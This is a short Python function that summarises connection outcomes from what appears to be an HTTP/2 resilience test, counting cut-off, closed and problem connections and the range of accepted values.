def summary(outcomes: Sequence[Outcome]) -> dict[str, object]:
    """Counts for a report: connections, cut off (ENHANCE_YOUR_CALM), closed, with a problem (the first)."""
    problems = [outcome for outcome in outcomes if outcome.problem is not None]
    accepted = [outcome.accepted for outcome in outcomes if outcome.accepted is not None]
    return {
        "connections": len(outcomes),
        "cut_off": sum(outcome.cut_off for outcome in outcomes),
        "closed": sum(outcome.closed for outcome in outcomes),
        "problems": len(problems),
        "first_problem": f"{problems[0].attack}: {problems[0].problem}" if problems else None,
        "accepted_min": min(accepted, default=None),
        "accepted_max": max(accepted, default=None),
        "limit": outcomes[0].limit if outcomes else None,
    }
